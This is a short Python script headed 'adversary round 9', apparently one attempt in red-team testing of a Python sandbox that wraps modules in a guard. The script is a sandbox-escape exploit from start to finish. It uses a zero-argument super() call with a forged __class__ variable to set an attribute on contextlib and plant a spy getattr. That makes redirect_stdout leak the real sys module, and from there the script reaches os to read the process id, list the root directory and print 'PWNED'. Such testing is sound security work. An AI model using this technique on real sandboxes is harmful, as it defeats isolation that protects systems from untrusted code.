# adversary round 9: Tries: zero-arg super() with a __class__ free var from an enclosing function (GuardedModule) -> object.__setattr__ on contextlib, plant contextlib.getattr=spy, redirect_stdout hands spy the real sys
import contextlib
import io

got = []

def spy(obj, name, *d):
    got.append(obj)
    return io.StringIO()

def make(G):
    __class__ = G
    def w(self, k, v):
        __class__
        super().__setattr__(k, v)
    return w

w = make(type(contextlib))
w(contextlib, "get" + "attr", spy)
with contextlib.redirect_stdout(io.StringIO()):
    pass
s = got[0]
print(type(s), s.__name__)
m = s.modules
o = m["o" + "s"]
print(o.getpid(), o.listdir("/"))
print("PWN" + "ED")
